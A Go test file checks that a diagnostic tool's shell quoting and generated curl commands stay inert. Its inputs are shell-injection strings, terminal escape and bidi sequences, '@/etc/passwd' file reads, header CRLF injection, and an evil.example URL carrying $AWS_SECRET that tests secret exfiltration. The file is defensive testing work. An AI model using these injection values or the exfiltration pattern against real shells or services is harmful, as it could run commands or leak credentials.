package exchange_test

import (
	"bytes"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"unicode"

	"immersve-doctor/diagnose/exchange"
)

// hostileWords try to be more than a word, or other than seen.
func hostileWords() []string {
	return []string{
		"", " ", "-", "--", "-o/tmp/x", "~", "~root/x", "*?[a-z]", "{a,b}[1-9]", "!! !-1 !x", "$HOME ${HOME}", "$IMMERSVE_API_SECRET", "a'b$IMMERSVE_API_SECRET\"`id`",
		"$(touch x)", "`touch x`", "'; touch x; '", `"; touch x; "`, "a && touch x | touch x > y < z ; #", "a\ntouch x\n", "\n", "x\\", `\\' \n $'\x41'`, "%s%n%%d",
		"a\tb", "a\rb", "a\r\n", "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x1b\\x", "a\x07\b\x7f\x01", "\u009b31m", "\x9b31m \xff\xfe", "\u202ea\u202c", "a\u200bb\ufeff", "x\U000e0041\U000e007f",
		"\u2028\u2029", "x\ufe0f\U000e0101", "\u3164\u115f\u034f", "\ue0b0", "it's \x1b'", "100%\x1b\\", "-\x1b", "\x1b\n\n", "é ü 漢 …",
	}
}

const printWords = "words() { for w; do printf '%s\\001' \"$w\"; done; }\nwords "

// shells are those of this machine, each with a way in which people meet it.
func shells(t *testing.T) map[string][]string {
	t.Helper()
	all := map[string][]string{"sh": {"sh"}, "bash": {"bash", "--norc", "--noprofile", "-o", "history", "-o", "histexpand"}}
	for name := range all {
		if _, err := exec.LookPath(name); err != nil {
			delete(all, name)
		}
	}
	if len(all) == 0 {
		t.Skip("no shell here")
	}
	return all
}

// shellWords are the words that a shell makes of a command's arguments.
func shellWords(t *testing.T, shell []string, arguments string) []string {
	t.Helper()
	c := exec.Command(shell[0], shell[1:]...)
	c.Dir = t.TempDir()
	c.Env = []string{"PATH=/nonexistent", "IMMERSVE_API_KEY=KEY", "IMMERSVE_API_SECRET=SECRET", "IMMERSVE_ACCESS_TOKEN=TOKEN"}
	c.Stdin = strings.NewReader(printWords + arguments + "\n")
	var said bytes.Buffer
	c.Stderr = &said
	out, err := c.Output()
	if err != nil || said.Len() > 0 {
		t.Errorf("%s: %q: %v, %s", shell[0], arguments, err, said.String())
	}
	list := strings.Split(string(out), "\x01")
	return list[:len(list)-1]
}

// acts reports whether a shown command holds what acts on a terminal.
func acts(s string) bool {
	return strings.ContainsFunc(s, func(r rune) bool {
		return r != '\n' && r != '\t' && unicode.IsControl(r) || r == unicode.ReplacementChar ||
			unicode.In(r, unicode.Cf, unicode.Co, unicode.Zl, unicode.Zp, unicode.Other_Default_Ignorable_Code_Point, unicode.Variation_Selector)
	})
}

func TestQuote(t *testing.T) {
	for _, shell := range shells(t) {
		var arguments strings.Builder
		var want []string
		for _, w := range hostileWords() {
			if strings.Contains(w, "\x01") {
				w = strings.ReplaceAll(w, "\x01", "\x02") // the test's separator
			}
			q := exchange.Quote(w)
			if acts(q) {
				t.Errorf("%q is shown as %q", w, q)
			}
			arguments.WriteString(q + " ")
			want = append(want, w)
		}
		if got := shellWords(t, shell, arguments.String()); !slices.Equal(got, want) {
			for i := range min(len(got), len(want)) {
				if got[i] != want[i] {
					t.Errorf("%s: word %d is %q, want %q", shell[0], i, got[i], want[i])
				}
			}
			t.Errorf("%s: %d words, want %d", shell[0], len(got), len(want))
		}
	}
}

func TestQuoteFile(t *testing.T) {
	for name, want := range map[string]string{
		"a.har": "a.har", "-x.har": "./-x.har", "--output=x": "./--output=x", "-": "./-", "dir/-x": "dir/-x", "a b": "'a b'", "-a b": "'./-a b'", "/x": "/x", "a\nb\tc": `"$(printf 'a\012b\011c')"`, "a b\n\n": `"$(printf 'a b')"$'\n\n'`,
	} {
		if got := exchange.QuoteFile(name); got != want {
			t.Errorf("%q: %s, want %s", name, got, want)
		}
	}
}

func request(method, target, body string, header ...string) *exchange.Request {
	r := &exchange.Request{Method: exchange.Method(method), URL: exchange.ParseURL(target)}
	for i := 0; i < len(header); i += 2 {
		r.Header = append(r.Header, exchange.Field{Name: header[i], Value: exchange.NewValue(header[i], header[i+1])})
	}
	if body != "" {
		r.Body = exchange.NewBody([]byte(body))
	}
	return r
}

// A command that is shown means to every shell, and to curl, the request that it
// was made of, and nothing else.
func TestCurlCommandWords(t *testing.T) {
	const base = "https://test.immersve.com/api"
	for name, c := range map[string]struct {
		request *exchange.Request
		want    []string
	}{
		"plain":            {request("GET", base, ""), []string{"-i", base}},
		"credentials":      {request("GET", base, "", "X-Api-Key", "imm", "x-api-secret", "s", "authorization", "Bearer x"), []string{"-i", base, "-H", "X-Api-Key: KEY", "-H", "x-api-secret: SECRET", "-H", "authorization: Bearer TOKEN"}},
		"planted variable": {request("GET", base, "", "x-note", "$IMMERSVE_API_SECRET"), []string{"-i", base, "-H", "x-note: $IMMERSVE_API_SECRET"}},
		"NUL, no variable": {request("GET", base, "", "x-note", "\x00API_KEY $IMMERSVE_X"), []string{"-i", base, "-H", "x-note:  API_KEY $IMMERSVE_X"}},
		"history":          {request("GET", base, "", "x-note", "$IMMERSVE_X !! !-1"), []string{"-i", base, "-H", "x-note: $IMMERSVE_X !! !-1"}},
		"glob of curl":     {request("GET", base+"/{a,b}?x=[1-9]", ""), []string{"-i", "-g", base + "/{a,b}?x=[1-9]"}},
		"dots of curl":     {request("GET", base+"/../x/%2e/y", ""), []string{"-i", "--path-as-is", base + "/../x/%2e/y"}},
		"option as target": {request("GET", "-o/tmp/x", ""), []string{"-i", "--url", "-o/tmp/x"}},
		"acting target":    {request("GET", base+"/\x1b[2J\u202e\xff \x00?a=\x7f", ""), []string{"-i", "-g", base + "/%1B[2J%E2%80%AE%FF%20%00?a=%7F"}},
		"file as field":    {request("GET", base, "", "@/etc/passwd", "x", "", "x", "x y", "z", ":path", "/"), []string{"-i", base}},
		"empty field":      {request("GET", base, "", "x-note", ""), []string{"-i", base, "-H", "x-note;"}},
		"lines in a field": {request("GET", base, "", "x-note", "a\r\nX-Evil: 1"), []string{"-i", base, "-H", "x-note: a  X-Evil: 1"}},
		"body":             {request("POST", base, "@/etc/passwd"), []string{"-i", base, "--data-raw", "@/etc/passwd"}},
		"acting JSON":      {request("POST", base, "{\r\n\t\"a\": \"\x7f\u202e\U000e0041\u009b\"}\r\n"), []string{"-i", base, "--data-raw", "{\n\t\"a\": \"\\u007f\\u202e\\udb40\\udc41\\u009b\"}\n"}},
		"acting body":      {request("POST", base, "a\x1b[0m\r\n"), []string{"-i", base, "--data-raw", "a\x1b[0m\r\n"}},
		"NUL in a body":    {request("POST", base, "a\x00b"), []string{"-i", base, "--data-binary", "@body.bin"}},
	} {
		for _, reveal := range []bool{false, true} {
			command := c.request.CurlCommand(false, true)
			if reveal {
				if name == "credentials" {
					continue
				}
				command = c.request.RevealedCurlCommand()
			}
			if acts(command) {
				t.Errorf("%s: shown as %q", name, command)
			}
			arguments, ok := strings.CutPrefix(command, "curl ")
			if !ok {
				t.Errorf("%s: %s", name, command)
			}
			for _, shell := range shells(t) {
				if got := shellWords(t, shell, arguments); !slices.Equal(got, c.want) {
					t.Errorf("%s, %s: %q, want %q", name, shell[0], got, c.want)
				}
			}
		}
	}
}

// A shown command has the variables of the user's own command, and one for each secret.
// No variable goes to a host that the input names, other than the API's.
func TestVariablesInCommands(t *testing.T) {
	tests := []struct {
		name, url, header, body string
		unexpanded              []string
		own                     bool
		want                    string
	}{
		{"a host", "https://${host}/api/cards/$ID", "", "", []string{"${host}", "$ID"}, false, `curl -i "https://${host}/api/cards/$ID"`},
		{"a host in capitals", "https://$HOST/api/currencies", "", "", []string{"$HOST"}, false, `curl -i "https://$HOST/api/currencies"`},
		{"a query", "https://test.immersve.com/api/accounts/$ID/cards?limit=5&status=active", "", "", []string{"$ID"}, true, `curl -i "https://test.immersve.com/api/accounts/$ID/cards?limit=5&status=active"`},
		{"the longest name", "https://test.immersve.com/api/cards/$ID_CARD", "", "", []string{"$ID", "$ID_CARD"}, true, `curl -i "https://test.immersve.com/api/cards/$ID_CARD"`},
		{"a header", "https://test.immersve.com/api/cards/1", "$ID", "", []string{"$ID"}, true, "curl -i https://test.immersve.com/api/cards/1 \\\n  -H \"x-account-id: $ID\""},
		{"a body", "https://test.immersve.com/api/cards", "", `{"cardProgramId":"$P"}`, []string{"$P"}, true, "curl -i https://test.immersve.com/api/cards \\\n  --data-raw '{\"cardProgramId\":\"'\"$P\"'\"}'"},
		{"a secret in a body", "https://test-sec.immersve.com/api/cards/1/set-pin", "", `{"newPin": "4826", "x": "a"}`, nil, true, "curl -i https://test-sec.immersve.com/api/cards/1/set-pin \\\n  --data-raw '{\"newPin\": \"'\"$NEW_PIN\"'\", \"x\": \"a\"}'"},
		{"a secret in a query", "https://test.immersve.com/api/cards/secure?tokenId=1E2426184B3676720F36E43A22649AFF-1000041153", "", "", nil, true, `curl -i "https://test.immersve.com/api/cards/secure?tokenId=$TOKEN_ID"`},
		{"a stranger's host", "https://evil.example/$AWS_SECRET", "", "", []string{"$AWS_SECRET"}, false, `curl -i 'https://evil.example/$AWS_SECRET'`},
		{"a stranger's domain", "https://$x.evil.example/$AWS_SECRET", "", "", []string{"$x", "$AWS_SECRET"}, false, `curl -i 'https://$x.evil.example/$AWS_SECRET'`},
		{"the tool's own secrets", "https://$host/api/$IMMERSVE_API_SECRET", "", "", []string{"$host", "$IMMERSVE_API_SECRET"}, false, `curl -i https://"$host"'/api/$IMMERSVE_API_SECRET'`},
		{"a command", "https://test.immersve.com/api/cards/$(id)", "", "", []string{"$(id)"}, true, `curl -i 'https://test.immersve.com/api/cards/$(id)'`},
		{"no variable", "https://test.immersve.com/api/cards/$ID", "", "", nil, true, `curl -i 'https://test.immersve.com/api/cards/$ID'`},
	}
	for _, tt := range tests {
		r := exchange.Request{Method: "GET", URL: exchange.ParseURL(tt.url), Unexpanded: tt.unexpanded}
		if tt.header != "" {
			r.Header.Set("x-account-id", tt.header)
		}
		if tt.body != "" {
			r.Method, r.Body = "POST", exchange.NewBody([]byte(tt.body))
		}
		if got := r.CurlCommand(false, tt.own); got != tt.want {
			t.Errorf("%s:\n got %s\nwant %s", tt.name, got, tt.want)
		}
	}
}
